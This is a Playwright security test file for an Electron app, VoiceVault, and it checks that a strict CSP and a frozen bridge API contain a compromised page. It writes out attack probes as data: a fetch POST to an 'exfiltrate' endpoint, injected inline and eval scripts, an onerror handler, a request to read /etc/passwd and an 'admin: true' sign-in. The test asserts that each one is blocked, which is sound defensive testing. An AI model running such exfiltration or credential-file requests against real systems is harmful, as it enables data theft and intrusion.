// What a compromised or careless page can and cannot do, observed in the real browser: the strict
// CSP blocks inline script, eval and foreign connections; there is no Node or Electron in the page;
// the only way out is the frozen contract API. (Navigation and window.open are refused by the
// Electron wiring, which main/electron/checklist.test.ts runs and e2e/electron.spec.ts checks where
// an Electron binary exists.)
import { expect, test } from './fixtures';

test.describe('the page under the strict CSP', () => {
  test('loads without console errors, shows the environment, and carries the CSP as header and meta', async ({ openApp }) => {
    const { page, bridge } = await openApp();
    const problems: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') problems.push(message.text());
    });
    page.on('pageerror', (error) => problems.push(error.message));
    const response = await page.reload();
    await expect(page.getByRole('heading', { name: 'VoiceVault' })).toBeVisible();
    await expect(page.getByRole('form', { name: 'Sign in' })).toBeVisible();
    await expect(page.getByLabel('connection')).toContainText('Local emulator');
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toContain("script-src 'self'");
    expect(meta).not.toContain('unsafe');
    expect(problems).toEqual([]);
    expect(bridge.url).toMatch(/^http:\/\/127\.0\.0\.1:/);
  });

  test('blocks inline script, eval, inline event handlers and connections to other origins', async ({ openApp }) => {
    const { page } = await openApp();
    const violations: string[] = [];
    await page.exposeFunction('reportViolation', (directive: string) => violations.push(directive));
    await page.evaluate(() => {
      document.addEventListener('securitypolicyviolation', (event) => (window as unknown as { reportViolation(d: string): void }).reportViolation(event.effectiveDirective));
    });
    await page.route('**/eval-probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: "try { (0, eval)('1 + 1'); window.evalRan = true; } catch { window.evalBlocked = true; } try { new Function('return 1')(); window.functionRan = true; } catch { window.functionBlocked = true; }",
      }),
    );
    const outcome = await page.evaluate(async () => {
      const flags = window as unknown as Record<string, unknown>;
      const script = document.createElement('script');
      script.textContent = 'window.inlineRan = true';
      document.body.append(script);
      // Code Playwright evaluates is exempt from the eval check, so eval is tried by a same-origin
      // script the page loads (served by the route below), as an attacker's injected code would run.
      const probe = document.createElement('script');
      probe.src = '/eval-probe.js';
      await new Promise((resolve) => {
        probe.onload = resolve;
        probe.onerror = resolve;
        document.body.append(probe);
      });
      const evalBlocked = flags.evalBlocked === true && flags.evalRan !== true;
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.handlerRan = true');
      img.src = 'data:,not-an-image';
      document.body.append(img);
      let fetchBlocked = false;
      try {
        await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'voice' });
      } catch {
        fetchBlocked = true;
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { inlineRan: flags.inlineRan === true, handlerRan: flags.handlerRan === true, evalBlocked, functionBlocked: flags.functionBlocked === true, fetchBlocked };
    });
    expect(outcome).toEqual({ inlineRan: false, handlerRan: false, evalBlocked: true, functionBlocked: true, fetchBlocked: true });
    expect(violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src', 'connect-src']));
  });

  test('has no require, process, Buffer or Electron in the page; only the frozen contract API', async ({ openApp }) => {
    const { page } = await openApp();
    const globals = await page.evaluate(() => {
      const w = window as unknown as Record<string, unknown>;
      const api = w.voicevault as Record<string, unknown>;
      return {
        require: typeof w.require,
        process: typeof w.process,
        Buffer: typeof w.Buffer,
        electron: typeof w.electron,
        ipcRenderer: typeof w.ipcRenderer,
        apiFrozen: Object.isFrozen(api),
        apiKinds: [...new Set(Object.values(api).map((v) => typeof v))],
        apiReplaced: (() => {
          try {
            w.voicevault = {};
          } catch {
            /* strict mode may throw */
          }
          return w.voicevault !== api;
        })(),
      };
    });
    expect(globals).toEqual({ require: 'undefined', process: 'undefined', Buffer: 'undefined', electron: 'undefined', ipcRenderer: 'undefined', apiFrozen: true, apiKinds: ['function'], apiReplaced: false });
  });

  test('a request outside the contract is refused by main, in words', async ({ openApp }) => {
    const { page } = await openApp();
    const answers = await page.evaluate(async () => {
      const post = async (channel: string, body: string) => (await fetch(`/bridge/${encodeURIComponent(channel)}`, { method: 'POST', body })).json();
      return [await post('voicevault:readFile', '"/etc/passwd"'), await post('voicevault:signIn', JSON.stringify({ username: 'ada', password: 'x', admin: true }))];
    });
    expect(answers).toEqual([
      { type: 'error', code: 'InvalidArgument', message: 'Unknown request.' },
      { type: 'error', code: 'InvalidArgument', message: 'Invalid request for signIn.' },
    ]);
  });

  test('says the password is wrong in plain words and keeps the user name', async ({ openApp }) => {
    const { page } = await openApp();
    await page.getByLabel('User name').fill('ada');
    await page.getByLabel('Password').fill('Wrong-password-123!');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(page.getByRole('alert')).toContainText(/user name or password is wrong/i);
    await expect(page.getByLabel('User name')).toHaveValue('ada');
    await expect(page.getByLabel('Password')).toHaveValue('');
  });
});
